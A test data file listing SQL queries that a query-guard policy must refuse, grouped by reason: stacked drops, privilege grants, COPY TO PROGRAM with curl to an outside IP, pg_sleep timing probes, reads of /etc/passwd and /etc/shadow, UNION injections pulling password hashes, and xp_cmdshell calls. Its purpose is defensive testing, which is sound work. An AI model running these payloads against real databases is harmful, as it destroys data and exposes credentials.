# Queries the run_query rule of policies/example.json must refuse.
# Format (see README.md): REASON QUERY, one per line; \n is a line break.

# --- stacked statements
stacked SELECT * FROM orders; DROP TABLE orders
stacked SELECT 1; DELETE FROM customers
stacked SELECT name FROM products WHERE id = 1; UPDATE accounts SET balance = 0
stacked SELECT * FROM orders WHERE id = '1'; INSERT INTO audit VALUES (1)
stacked SELECT 1; COPY orders TO '/tmp/orders.csv'
stacked SELECT 1; SET ROLE postgres
stacked (SELECT 1); GRANT ALL ON orders TO PUBLIC
stacked SELECT 1;SELECT 2
stacked SELECT 1 --\n; DROP TABLE orders
stacked SELECT 'a'';'; DROP TABLE orders

# --- writes, DDL and DCL
not_select INSERT INTO orders (id) VALUES (1)
not_select UPDATE customers SET email = 'eve@example.com'
not_select DELETE FROM orders WHERE 1 = 1
not_select MERGE INTO orders t USING staging s ON t.id = s.id WHEN MATCHED THEN DELETE
not_select DROP TABLE orders
not_select TRUNCATE orders
not_select ALTER TABLE orders ADD COLUMN pwned int
not_select CREATE TABLE loot AS SELECT * FROM customers
not_select CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
not_select GRANT SELECT ON orders TO PUBLIC
not_select REVOKE ALL ON orders FROM analyst
not_select CREATE ROLE attacker SUPERUSER LOGIN PASSWORD 'x'
not_select ALTER ROLE analyst SUPERUSER
not_select CREATE EXTENSION dblink
not_select REFRESH MATERIALIZED VIEW daily_sales
not_select LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
not_select BEGIN
not_select RESET ALL
not_select LOAD '/tmp/evil.so'
not_select DECLARE c CURSOR FOR SELECT * FROM orders

# --- EXPLAIN, COPY, CALL, DO, SET, SHOW, LISTEN, PREPARE, EXECUTE, VACUUM
not_select EXPLAIN ANALYZE DELETE FROM orders
not_select EXPLAIN ANALYZE SELECT pg_sleep(10)
not_select EXPLAIN SELECT * FROM orders
not_select COPY orders TO '/tmp/orders.csv'
not_select COPY (SELECT * FROM customers) TO PROGRAM 'curl http://203.0.113.9/x'
not_select CALL refresh_all()
not_select DO $$ BEGIN PERFORM pg_sleep(10); END $$
not_select SET statement_timeout = 0
not_select SHOW data_directory
not_select SHOW TABLES
not_select LISTEN orders_channel
not_select NOTIFY orders_channel, 'x'
not_select PREPARE p AS DELETE FROM orders
not_select EXECUTE p
not_select VACUUM FULL orders

# --- data-modifying statements inside WITH
data_modifying_cte WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
data_modifying_cte WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u
data_modifying_cte WITH i AS (INSERT INTO admins (name) VALUES ('eve') RETURNING 1) SELECT 1
data_modifying_cte SELECT * FROM (WITH x AS (DELETE FROM logs RETURNING *) SELECT * FROM x) s
data_modifying_cte WITH RECURSIVE a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING x) SELECT * FROM a
data_modifying_cte WITH a AS (SELECT pg_sleep(1)), b AS (DELETE FROM t RETURNING 1) SELECT 1

# --- SELECT INTO and locking clauses
select_into SELECT * INTO backup_orders FROM orders
select_into SELECT name INTO TEMP stolen FROM customers
locking SELECT * FROM accounts FOR UPDATE
locking SELECT * FROM orders FOR SHARE NOWAIT
locking SELECT id FROM (SELECT id FROM orders FOR NO KEY UPDATE) s
locking SELECT * FROM orders FOR KEY SHARE OF orders SKIP LOCKED

# --- comments: trailing, inline, MySQL executable
comment SELECT * FROM orders -- WHERE customer_id = 42
comment SELECT * FROM orders /* admin */ WHERE 1 = 1
comment SELECT/**/name/**/FROM/**/products
comment SELECT * FROM orders WHERE id = 1 /*! UNION SELECT password FROM users */
comment SELECT 1 /*!50000 UNION SELECT user() */
comment SELECT name FROM products WHERE id = 1;--
comment SELECT * FROM customers WHERE name = '' OR 1 = 1 --'
comment SELECT /* nested /* comment */ */ 1
comment SELECT 1 -- trailing
comment SELECT 1 UNION SELECT version() --

# --- time-based functions
function SELECT pg_sleep(10)
function SELECT pg_catalog.pg_sleep(5)
function SELECT * FROM orders WHERE id = 1 AND pg_sleep(5) IS NOT NULL
function SELECT CASE WHEN (SELECT count(*) FROM orders) > 0 THEN pg_sleep_for('5 seconds') END
function SELECT pg_sleep_until(now() + interval '1 hour')
function SELECT "PG_SLEEP"(10)
function SELECT * FROM orders WHERE id IN (SELECT pg_sleep(3)::text::int)
function SELECT * FROM orders o, LATERAL (SELECT pg_sleep(1)) s
function SELECT pg_advisory_lock(1)
function SELECT (5).pg_sleep
function SELECT SLEEP(5)
function SELECT BENCHMARK(10000000, MD5('a'))

# --- file access, remote connections, administration
function SELECT pg_read_file('/etc/passwd')
function SELECT pg_read_binary_file('global/pg_control')
function SELECT ('/etc/passwd').pg_read_file
function SELECT * FROM pg_ls_dir('.')
function SELECT pg_stat_file('postgresql.conf')
function SELECT lo_import('/etc/shadow')
function SELECT lo_export(12345, '/tmp/x')
function SELECT lo_get(16384)
function SELECT LOAD_FILE('/etc/passwd')
function WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT f FROM x
function SELECT * FROM ROWS FROM (pg_ls_dir('/'))
function SELECT * FROM dblink('host=10.0.0.1 dbname=prod', 'SELECT 1') AS t(x int)
function SELECT dblink_exec('dbname=prod', 'DROP TABLE orders')
function SELECT postgres_fdw_disconnect_all()
function SELECT pg_terminate_backend(1234)
function SELECT pg_cancel_backend(42)
function SELECT pg_reload_conf()
function SELECT set_config('statement_timeout', '0', false)
function SELECT current_setting('data_directory')
function SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')
function SELECT nextval('orders_id_seq')
function SELECT pg_stat_reset()

# --- system catalogs and credential columns, through UNION and subqueries
relation SELECT name FROM products UNION SELECT usename FROM pg_user
column SELECT name, price::text FROM products UNION ALL SELECT usename, passwd FROM pg_shadow
relation SELECT 1 UNION SELECT rolname FROM pg_authid
column SELECT id FROM orders UNION SELECT password FROM users
column SELECT title FROM posts UNION SELECT api_key FROM integrations
column SELECT name FROM products WHERE id = -1 UNION SELECT secret FROM vault
column SELECT u.password_hash FROM users u
column SELECT (u).password FROM users u
column SELECT email, reset_token FROM users
schema SELECT * FROM information_schema.tables
schema SELECT table_name FROM information_schema.columns UNION SELECT 'x'
relation SELECT * FROM pg_catalog.pg_roles
relation SELECT * FROM "pg_authid"
relation SELECT * FROM PG_SHADOW
relation SELECT * FROM U&"pg\005fshadow"
relation SELECT * FROM api_keys
relation SELECT count(*) FROM pg_stat_activity
relation SELECT * FROM orders WHERE customer_id IN (SELECT oid FROM pg_class)
relation SELECT * FROM orders o JOIN LATERAL (SELECT * FROM pg_settings) s ON true
schema SELECT * FROM pg_temp.scratch
type SELECT 'pg_authid'::regclass::oid
type SELECT 1255::regclass
type SELECT regclass('pg_shadow')
function SELECT to_regclass('pg_authid')

# --- other databases' syntax
parse_error SELECT * FROM orders INTO OUTFILE '/tmp/orders.txt'
parse_error SELECT 1 WAITFOR DELAY '0:0:5'
parse_error WAITFOR DELAY '0:0:5'
parse_error EXEC xp_cmdshell 'whoami'
parse_error EXEC master..xp_cmdshell 'dir'
parse_error SELECT 1; EXEC sp_configure 'show advanced options', 1
parse_error ATTACH DATABASE '/tmp/evil.db' AS evil
parse_error PRAGMA table_info(users)
parse_error '; DROP TABLE orders; --
parse_error 1' OR '1'='1
